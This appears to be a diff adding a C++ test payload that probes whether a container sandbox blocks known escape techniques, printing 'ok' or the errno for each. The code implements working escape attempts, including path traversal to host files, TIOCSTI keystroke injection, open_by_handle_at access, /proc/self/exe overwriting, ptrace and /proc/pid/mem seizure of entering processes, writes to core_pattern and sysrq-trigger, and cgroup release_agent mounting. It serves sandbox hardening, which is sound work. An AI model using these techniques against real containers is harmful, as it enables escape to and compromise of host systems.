@@ -1,0 +1,259 @@
+// Verb "attack": what a hostile command in a container tries. Each prints "key=value" lines: "ok"
+// where it got through, else the errno.
+#include <dirent.h>
+#include <fcntl.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <cerrno>
+#include <climits>
+#include <csignal>
+#include <cstddef>
+#include <cstdint>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <initializer_list>
+
+#include "payload_calls.hpp"
+
+namespace {
+
+const char* came_of(long result) { return result >= 0 ? "ok" : strerrorname_np(errno); }
+
+/// The first line of a file, or the errno.
+void print_line(const char* key, int fd) {
+  char text[256] = {};
+  const ssize_t n = fd >= 0 ? read(fd, text, sizeof text - 1) : -1;
+  if (n < 0)
+    std::printf("%s=%s\n", key, strerrorname_np(errno));
+  else
+    std::printf("%s=%.*s\n", key, static_cast<int>(std::strcspn(text, "\n")), text);
+  if (fd >= 0) close(fd);
+}
+
+/// A path of the host, reached from a directory: reach FD PATH; FD -100 is the working directory.
+int reach(int argc, char** argv) {
+  if (argc < 5) return 2;
+  char path[PATH_MAX];
+  std::snprintf(path, sizeof path, "../../../../../../../../../../../..%s", argv[4]);
+  print_line("reach", openat(std::atoi(argv[3]), path, O_RDONLY | O_CLOEXEC));
+  return 0;
+}
+
+/// Types on the terminal that standard input is.
+int type(int /*argc*/, char** /*argv*/) {
+  const char* text = "owned\n";
+  const char* result = "ok";
+  for (; *text != 0; ++text)
+    if (ioctl(0, TIOCSTI, text) < 0) result = strerrorname_np(errno);
+  std::printf("type=%s\n", result);
+  return 0;
+}
+
+/// Connects to an abstract socket by name.
+int connect_to(int argc, char** argv) {
+  if (argc < 4) return 2;
+  sockaddr_un where{};
+  where.sun_family = AF_UNIX;
+  std::strncpy(where.sun_path + 1, argv[3], sizeof where.sun_path - 2);
+  const int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  const auto size =
+      static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + std::strlen(where.sun_path + 1));
+  std::printf("connect=%s\n", came_of(connect(s, reinterpret_cast<sockaddr*>(&where), size)));
+  return 0;
+}
+
+/// Opens a file of the file system that "/" is on by its handle: handle TYPE BYTES-IN-HEX.
+int handle(int argc, char** argv) {
+  if (argc < 5) return 2;
+  alignas(8) char room[sizeof(file_handle) + MAX_HANDLE_SZ] = {};
+  auto* h = reinterpret_cast<file_handle*>(room);
+  h->handle_type = std::atoi(argv[3]);
+  h->handle_bytes = static_cast<unsigned>(std::strlen(argv[4]) / 2);
+  for (unsigned i = 0; i < h->handle_bytes && i < MAX_HANDLE_SZ; ++i) {
+    const char digits[3] = {argv[4][2 * i], argv[4][2 * i + 1], 0};
+    h->f_handle[i] = static_cast<unsigned char>(std::strtoul(digits, nullptr, 16));
+  }
+  const int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  print_line("handle", open_by_handle_at(root, h, O_RDONLY | O_CLOEXEC));
+  return 0;
+}
+
+/// Looks for a key of the session keyring.
+int key(int argc, char** argv) {
+  if (argc < 4) return 2;
+  constexpr long search = 10, session = -3;  // KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING
+  std::printf("key=%s\n", came_of(syscall(SYS_keyctl, search, session, "user", argv[3], 0)));
+  return 0;
+}
+
+/// Opens for writing, and writes nothing.
+int open_write(int argc, char** argv) {
+  for (int i = 3; i < argc; ++i) {
+    const int fd = open(argv[i], O_WRONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
+    std::printf("%s=%s\n", argv[i], came_of(fd));
+    if (fd >= 0) close(fd);
+  }
+  return 0;
+}
+
+unsigned looked_at = 0;
+
+/// Says which files below can be written. Those of processes are their own business.
+void walk_below(const char* dir, int depth) {
+  DIR* d = opendir(dir);
+  if (d == nullptr) return;
+  while (const dirent* e = readdir(d)) {
+    if (e->d_name[0] == '.' || (std::strcmp(dir, "/proc") == 0 && e->d_name[0] <= '9')) continue;
+    char path[PATH_MAX];
+    if (std::snprintf(path, sizeof path, "%s/%s", dir, e->d_name) >= PATH_MAX) continue;
+    struct stat st {};
+    if (lstat(path, &st) < 0) continue;
+    if (S_ISDIR(st.st_mode) && depth > 0) walk_below(path, depth - 1);
+    if (!S_ISREG(st.st_mode)) continue;
+    ++looked_at;
+    const int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
+    if (fd < 0) continue;
+    // Root opens what it may only read, too: EIO is what a file without a way to write says.
+    if (write(fd, "", 0) >= 0 || errno != EIO) std::printf("writable=%s\n", path);
+    close(fd);
+  }
+  closedir(d);
+}
+int walk(int argc, char** argv) {
+  constexpr int deep = 12;
+  for (int i = 3; i < argc; ++i) walk_below(argv[i], deep);
+  std::printf("looked_at=%u\n", looked_at);
+  return 0;
+}
+
+/// Whether one of the directories is a procfs whose kernel files are open.
+int unmasked(int argc, char** argv) {
+  for (int i = 3; i < argc; ++i)
+    for (const char* file : {"sys/kernel/core_pattern", "sysrq-trigger"}) {
+      char path[PATH_MAX];
+      std::snprintf(path, sizeof path, "%s/%s", argv[i], file);
+      const int fd = open(path, O_WRONLY | O_CLOEXEC);
+      if (fd < 0) continue;
+      std::printf("open=%s\n", path);
+      close(fd);
+    }
+  return 0;
+}
+
+/// Started as /proc/self/exe by whoever launched it: what runs is his program. It is kept open over
+/// an exec of ours, and written to.
+int own_program(int argc, char** argv) {
+  if (argc < 4) return 2;
+  const int fd = open("/proc/self/exe", O_RDONLY);
+  char number[16];
+  std::snprintf(number, sizeof number, "%d", fd);
+  execl(argv[3], argv[3], "attack", "overwrite", number, nullptr);
+  return 91;
+}
+/// As a launcher's last step: it becomes the command.
+int launch(int argc, char** argv) {
+  if (argc < 4) return 2;
+  execv(argv[3], argv + 3);
+  return 91;
+}
+int overwrite(int argc, char** argv) {
+  if (argc < 4) return 2;
+  char path[64];
+  std::snprintf(path, sizeof path, "/proc/self/fd/%s", argv[3]);
+  const int fd = open(path, O_WRONLY | O_CLOEXEC);
+  std::printf("overwrite=%s\n", came_of(fd < 0 ? fd : write(fd, "owned", 5)));
+  return 0;
+}
+
+/// Waits for somebody to enter, and lays hands on him: ambush PATH, which is a file of the host.
+int ambush(int argc, char** argv) {
+  if (argc < 4) return 2;
+  setvbuf(stdout, nullptr, _IONBF, 0);
+  std::printf("ready=yes\n");
+  const pid_t own = getpid();
+  for (int tries = 0; tries < 10000; ++tries, usleep(500)) {
+    pid_t other = 0;
+    DIR* d = opendir("/proc");
+    while (const dirent* e = d != nullptr ? readdir(d) : nullptr)
+      if (const pid_t pid = std::atoi(e->d_name); pid > 1 && pid != own) other = pid;
+    if (d != nullptr) closedir(d);
+    if (other == 0) continue;
+    kill(other, SIGSTOP);
+    char path[PATH_MAX];
+    std::snprintf(path, sizeof path, "/proc/%d/mem", other);
+    std::printf("mem=%s\n", came_of(open(path, O_RDWR | O_CLOEXEC)));
+    std::printf("trace=%s\n", came_of(ptrace(PTRACE_SEIZE, other, nullptr, nullptr)));
+    const char* best = "none";
+    for (int fd = 0; fd < 64 && std::strcmp(best, "ok") != 0; ++fd) {
+      std::snprintf(path, sizeof path, "/proc/%d/fd/%d/%s", other, fd, argv[3]);
+      if (const int file = open(path, O_RDONLY | O_CLOEXEC); file >= 0) best = "ok";
+    }
+    std::printf("descriptor=%s\n", best);
+    return 0;
+  }
+  std::printf("nobody=came\n");
+  return 0;
+}
+
+/// Tells whoever listens on any descriptor that all went well; then it fails.
+int lie(int /*argc*/, char** /*argv*/) {
+  unsigned told = 0;
+  for (int fd = 3; fd < 1024; ++fd)
+    if (write(fd, "exit 0\n", 7) == 7) ++told;
+  std::printf("told=%u\n", told);
+  std::fflush(stdout);
+  return 7;
+}
+
+/// Mounts a hierarchy of cgroup v1, and sets what is run when a cgroup of it is empty: to what it
+/// is.
+int release_agent(int argc, char** argv) {
+  if (argc < 4) return 2;
+  const char* dir = "/tmp/of-the-attack";
+  mkdir(dir, 0755);
+  std::printf("mount=%s\n", came_of(mount("none", dir, "cgroup", 0, argv[3])));
+  const int fd = open("/tmp/of-the-attack/release_agent", O_RDWR | O_CLOEXEC);
+  char is[PATH_MAX] = {};
+  const ssize_t n = fd >= 0 ? read(fd, is, sizeof is) : -1;
+  std::printf(
+      "agent=%s\n",
+      came_of(n < 0 ? n : pwrite(fd, n > 0 ? is : "\n", n > 0 ? static_cast<size_t>(n) : 1, 0)));
+  return 0;
+}
+
+constexpr struct {
+  const char* name;
+  int (*run)(int, char**);
+} attacks[] = {{"reach", reach},
+               {"type", type},
+               {"connect", connect_to},
+               {"handle", handle},
+               {"key", key},
+               {"open-write", open_write},
+               {"walk", walk},
+               {"unmasked", unmasked},
+               {"own-program", own_program},
+               {"launch", launch},
+               {"overwrite", overwrite},
+               {"ambush", ambush},
+               {"lie", lie},
+               {"release-agent", release_agent}};
+
+}  // namespace
+
+int do_attack(int argc, char** argv) {
+  if (argc >= 3)
+    for (const auto& a : attacks)
+      if (std::strcmp(argv[2], a.name) == 0) return a.run(argc, argv);
+  std::fprintf(stderr, "payload: no such attack\n");
+  return 2;
+}
